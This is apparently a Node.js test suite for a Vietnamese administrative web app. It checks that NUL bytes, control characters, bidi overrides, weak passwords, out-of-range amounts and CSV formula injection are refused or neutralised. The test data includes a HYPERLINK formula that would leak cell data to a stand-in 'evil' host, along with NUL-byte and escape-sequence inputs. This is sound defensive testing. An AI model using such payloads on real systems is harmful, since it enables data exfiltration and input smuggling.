// What a hostile tester found (issue 8): a NUL in an address, control
// characters and bidirectional overrides in names.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { makeDb, startServer, Client } from '../lib/server.mjs';
import { mkUnit, rawHttp } from './_util.mjs';
import { officeDay } from '../lib/dates.mjs';

let env, srv, admin, unit;

before(async () => {
  env = makeDb();
  srv = await startServer(env.db);
  admin = new Client(srv.base);
  await admin.login('admin', env.adminPassword);
  unit = await mkUnit(admin, 'T-HOST', 'Tỉnh Thử', 'province');
});

after(async () => { await srv.stop(); });

test('a NUL in the path, the query or a form body is a 400, not a shorter address', async () => {
  let r = await admin.get(`/api/v1/units/${unit.id}%00`);
  assert.equal(r.status, 400);
  assert.equal(r.data.error.code, 'bad_request');
  r = await admin.get(`/api/v1/units/${unit.id}`);
  assert.equal(r.status, 200);
  r = await admin.get('/api/v1/units?q=th%00u');
  assert.equal(r.status, 400);
  r = await admin.get(`/units/${unit.id}%00`);
  assert.equal(r.status, 400);
  // the raw request, as a tool would send it
  const raw = await rawHttp(srv.port, `GET /api/v1/people/1%00 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
  assert.match(raw.text, /^HTTP\/1\.1 400 /);
});

test('a form body with %00 is refused', async () => {
  const r = await admin.req('POST', '/units', { raw: 'code=X1&name=ab%00cd&kind=agency', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
  assert.equal(r.status, 400);
});

test('control characters are refused in one-line texts, line breaks allowed in long texts', async () => {
  let r = await admin.post('/api/v1/units', { json: { code: 'T-ESC', name: '\u001b[31mĐỏ', kind: 'agency', parent_id: unit.id } });
  assert.equal(r.status, 422, r.text);
  assert.deepEqual(Object.keys(r.data.error.fields), ['name']);
  r = await admin.post('/api/v1/units', { json: { code: 'T-NL', name: 'Dòng một\nDòng hai', kind: 'agency', parent_id: unit.id } });
  assert.equal(r.status, 422);
  r = await admin.post('/api/v1/units', { json: { code: 'T-C1', name: 'Tên\u0085', kind: 'agency', parent_id: unit.id } });
  assert.equal(r.status, 422);
  r = await admin.post('/api/v1/people', { json: { full_name: 'Nguyễn\u0007 Văn A', unit_id: unit.id } });
  assert.equal(r.status, 422);
  assert.ok(r.data.error.fields.full_name);
});

test('bidirectional overrides are removed from names', async () => {
  const r = await admin.post('/api/v1/units', { json: { code: 'T-BIDI', name: 'Phòng \u202eTổng hợp\u202c', kind: 'agency', parent_id: unit.id } });
  assert.equal(r.status, 201, r.text);
  assert.equal(r.data.name, 'Phòng Tổng hợp');
  const p = await admin.post('/api/v1/people', { json: { full_name: '\u2067Trần Thị B\u2069', gender: 'F', unit_id: unit.id } });
  assert.equal(p.status, 201, p.text);
  assert.equal(p.data.full_name, 'Trần Thị B');
});

test('the password policy refuses weak passwords in the command line (libpwquality with its dictionary)', async () => {
  const fs = await import('node:fs');
  const path = await import('node:path');
  const { thidua } = await import('../lib/server.mjs');
  const pf = path.join(env.dir, 'weak.pw');
  const add = (login, pw) => { fs.writeFileSync(pf, pw + '\n'); return thidua(['user', 'add', '--db', env.db, '--login', login, '--role', 'viewer', '--unit', 'VN', '--password-file', pf]); };
  let r = add('weak.one', 'password');
  assert.equal(r.code, 1);
  assert.match(r.stderr, /the password is too weak: The password is shorter than 10 characters/);
  r = add('weak.two', '12345678');
  assert.equal(r.code, 1);
  r = add('weak.three', 'sunshine123');
  assert.match(r.stderr, /dictionary/);
  r = add('hoang.lan', 'hoang.lan-2026');
  assert.match(r.stderr, /user name/);
  r = add('hoang.lan', 'Tr4ng-Xanh-M4y');
  assert.equal(r.code, 0, r.stderr);
  // and the password change
  fs.writeFileSync(pf, '12345678\n');
  r = thidua(['user', 'passwd', '--db', env.db, '--login', 'hoang.lan', '--password-file', pf]);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /too weak/);
});

test('measured values have a range: amounts 0..10^15 in whole VND, rates 0..100, and a sum stays in range', async () => {
  const day = (o) => officeDay(o);
  let r = await admin.post('/api/v1/movements', {
    json: {
      code: 'RANGE', title: 'Giới hạn', kind: 'regular', authority_code: 'T-HOST', starts_on: day(-10), ends_on: day(100), register_by: day(10),
      scope: ['T-HOST'], fields: ['economy'],
      metrics: [{ code: 'vnd', name: 'Kinh phí', unit: 'VND', kind: 'amount' }, { code: 'km', name: 'Đường', unit: 'km', kind: 'amount' },
        { code: 'pct', name: 'Tỷ lệ', unit: '%', kind: 'rate' }],
    },
  });
  assert.equal(r.status, 201, r.text);
  const mv = r.data;
  await admin.post(`/api/v1/movements/${mv.id}/status`, { json: { status: 'launched', version: mv.version } });
  assert.equal((await admin.post(`/api/v1/movements/${mv.id}/registrations`, { json: { unit_code: 'T-HOST' } })).status, 201);
  r = await admin.post(`/api/v1/movements/${mv.id}/models`, { json: { unit_code: 'T-HOST', code: 'R-1', title: 'Mô hình', field: 'economy' } });
  const model = r.data;
  const report = (results) => admin.post(`/api/v1/models/${model.id}/reports`, { json: { reported_on: day(-1), results } });
  for (const bad of [{ vnd: 1.7e308 }, { vnd: 1e15 + 2 }, { vnd: 1500.5 }, { vnd: -1 }, { pct: 100.5 }]) {
    r = await report(bad);
    assert.equal(r.status, 422, JSON.stringify(bad));
    assert.ok(r.data.error.fields.results, JSON.stringify(bad));
  }
  // the largest 64-bit integer, sent as JSON text (JavaScript cannot hold it)
  r = await admin.post(`/api/v1/models/${model.id}/reports`, { json: `{"reported_on":"${day(-1)}","results":{"vnd":9223372036854775807}}` });
  assert.equal(r.status, 422);
  assert.equal(r.data.error.fields.results, 'Phải từ 0 đến 1.000.000.000.000.000');
  assert.equal((await report({ vnd: 1e15, km: 2.5, pct: 100 })).status, 201);
  // the standing sum would pass 10^15
  r = await report({ vnd: 1 });
  assert.equal(r.status, 422);
  assert.equal(r.data.error.fields.results, 'Tổng của mô hình sẽ vượt quá 1.000.000.000.000.000');
  r = await admin.get(`/api/v1/movements/${mv.id}/dashboard`);
  assert.equal(r.status, 200);
  assert.equal(r.data.metrics.find((x) => x.code === 'vnd').value, 1e15);
  const csv = await admin.get(`/movements/${mv.id}/export/results?format=csv`);
  assert.equal(csv.status, 200);
  assert.ok(!/inf|nan/i.test(csv.text), csv.text);
});

test('a draft movement is seen only by those who may run it, not by a viewer or council member above its authority', async () => {
  const { addUserAsync } = await import('./_util.mjs');
  const { BIN } = await import('../lib/server.mjs');
  const day = (o) => officeDay(o);
  const sub = await mkUnit(admin, 'T-HOST-S', 'Sở Thử', 'department', unit.id);
  const [pv, pc, po] = await Promise.all([
    addUserAsync(BIN, env.db, 'draft.viewer', 'viewer', 'VN'),
    addUserAsync(BIN, env.db, 'draft.council', 'council', 'T-HOST'),
    addUserAsync(BIN, env.db, 'draft.officer', 'officer', 'T-HOST'),
  ]);
  const viewer = new Client(srv.base); await viewer.login('draft.viewer', pv);
  const council = new Client(srv.base); await council.login('draft.council', pc);
  const officer = new Client(srv.base); await officer.login('draft.officer', po);
  const r = await officer.post('/api/v1/movements', {
    json: { code: 'DRAFT-1', title: 'Bản nháp', kind: 'regular', authority_id: sub.id, starts_on: day(1), ends_on: day(90), register_by: day(30) },
  });
  assert.equal(r.status, 201, r.text);
  for (const c of [viewer, council]) {
    assert.equal((await c.get(`/api/v1/movements/${r.data.id}`)).status, 404);
    assert.equal((await c.get('/api/v1/movements?q=ban%20nhap')).data.total, 0);
    assert.equal((await c.get(`/movements/${r.data.id}`)).status, 404);
  }
  assert.equal((await officer.get(`/api/v1/movements/${r.data.id}`)).status, 200);
  assert.equal((await officer.get('/api/v1/movements?q=ban%20nhap')).data.total, 1);
  assert.equal((await admin.get('/api/v1/movements?q=ban%20nhap')).data.total, 1);
});

test('CSV exports neutralise formulas (=, +, -, @, tab, CR) with an apostrophe, and the import reads them back unchanged', async () => {
  const fs = await import('node:fs');
  const path = await import('node:path');
  const { thidua } = await import('../lib/server.mjs');
  const own = await mkUnit(admin, 'T-CSVINJ', 'Phòng Xuất dữ liệu', 'agency', unit.id);
  const names = ['=HYPERLINK("http://evil/?"&A1,"click")', '+84 912 345 678', '-Lê Văn C', '@SUM(A1)', "'Trích dẫn", "'=giữ nguyên"];
  const codes = [];
  for (const [i, full_name] of names.entries()) {
    const r = await admin.post('/api/v1/people', { json: { full_name, gender: 'M', unit_id: own.id, code: `CSVINJ${i}` } });
    assert.equal(r.status, 201, r.text);
    codes.push(r.data.code);
  }
  const r = await admin.get(`/export/people?under=${own.id}&format=csv`);
  assert.equal(r.status, 200);
  const csv = r.text;
  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil/?""&A1,""click"")"`), csv);
  assert.ok(csv.includes("'+84 912 345 678"));
  assert.ok(csv.includes("'-Lê Văn C"));
  assert.ok(csv.includes("'@SUM(A1)"));
  assert.ok(csv.includes("''Trích dẫn"));
  assert.ok(csv.includes("''=giữ nguyên"));
  for (const line of csv.split('\r\n').slice(1)) assert.ok(!/(^|,)[=+@]/.test(line), line);
  // the same file imported again changes nothing: every name reads back as it was
  const f = path.join(env.dir, 'people-guarded.csv');
  fs.writeFileSync(f, csv);
  const im = thidua(['import', 'people', f, '--db', env.db]);
  assert.equal(im.code, 0, im.stderr + im.stdout);
  assert.match(im.stdout, /0 added, 0 updated/);
  for (const [i, name] of names.entries()) {
    const p = await admin.get(`/api/v1/people?unit=${own.id}&limit=100`);
    assert.ok(p.data.items.some((x) => x.code === `CSVINJ${i}` && x.full_name === name), name);
  }
});

test('the movement API also answers every error at once: unknown unit codes do not hide the code, the dates or the kind', async () => {
  const r = await admin.post('/api/v1/movements', {
    json: { code: 'bad code', title: 'X', kind: 'party', authority_code: 'T-HOST', starts_on: '31/12/2026', ends_on: '2027-02-30', register_by: '2027-01-01', scope: ['T-HOST', 'QY-XYZ', 'QY-ABC'] },
  });
  assert.equal(r.status, 422);
  assert.deepEqual(Object.keys(r.data.error.fields).sort(), ['code', 'ends_on', 'kind', 'scope', 'starts_on']);
  assert.equal(r.data.error.fields.starts_on, 'Không phải là ngày hợp lệ (YYYY-MM-DD)');
  assert.equal((await admin.get('/api/v1/movements?q=bad')).data.total, 0);
});

test('an unknown stage or kind on the movements list is a 400 naming it, not an empty list', async () => {
  for (const [k, v] of [['status', 'nope'], ['kind', 'party']]) {
    const r = await admin.get(`/api/v1/movements?${k}=${v}`);
    assert.equal(r.status, 400, `${k}=${v}`);
    assert.deepEqual(Object.keys(r.data.error.fields), [k]);
  }
  assert.equal((await admin.get('/api/v1/movements?status=launched&kind=regular')).status, 200);
});

test('metric names sent to the API are checked like every one-line text: controls refused, bidi overrides removed', async () => {
  const day = (o) => officeDay(o);
  const mv = (code, metrics) => admin.post('/api/v1/movements', {
    json: { code, title: 'Phong trào thử', kind: 'regular', authority_id: unit.id, starts_on: day(-1), ends_on: day(100), register_by: day(10), scope: ['T-HOST'], fields: ['economy'], metrics },
  });
  let r = await mv('MV-ESC', [{ code: 'vnd', name: 'Kinh phí', unit: 'VND' }, { code: 'ho', name: '\u001b[31mSố hộ', unit: 'hộ\u0085' }]);
  assert.equal(r.status, 422, r.text);
  assert.deepEqual(Object.keys(r.data.error.fields).sort(), ['metrics.2.name', 'metrics.2.unit']);
  r = await mv('MV-BIDI', [{ code: 'vnd', name: 'Kinh phí \u202ehuy động\u202c', unit: 'VND' }]);
  assert.equal(r.status, 201, r.text);
  assert.deepEqual(r.data.metrics.map((m) => m.name), ['Kinh phí huy động']);
});
